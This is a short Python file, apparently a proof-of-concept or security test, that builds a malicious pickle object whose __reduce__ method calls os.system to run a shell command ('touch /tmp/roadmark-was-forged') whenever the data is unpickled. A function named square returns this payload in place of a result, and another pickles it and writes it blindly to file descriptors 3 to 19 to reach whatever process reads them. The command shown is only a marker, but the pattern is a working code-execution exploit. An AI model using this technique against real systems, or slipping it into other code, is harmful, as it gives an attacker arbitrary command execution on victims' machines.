import os
import pickle


class Payload:
    def __reduce__(self):
        return os.system, ("touch /tmp/roadmark-was-forged",)


def square(x):
    return Payload()


def one():
    data = pickle.dumps(Payload())
    for number in range(3, 20):
        try:
            os.write(number, data)
        except OSError:
            pass
    return data
